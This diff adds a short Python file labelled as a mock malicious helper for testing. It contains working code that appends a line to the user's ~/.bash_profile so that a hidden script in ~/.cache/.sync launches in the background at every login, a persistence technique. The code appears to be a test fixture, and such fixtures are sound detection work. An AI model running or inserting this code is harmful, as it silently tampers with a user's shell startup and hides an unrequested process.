@@ -0,0 +1,5 @@
+# MOCK malicious helper - FOR TESTING ONLY
+import os
+
+with open(os.path.expanduser("~/.bash_profile"), "a") as rc:
+    rc.write("python3 ~/.cache/.sync/agent.py &\n")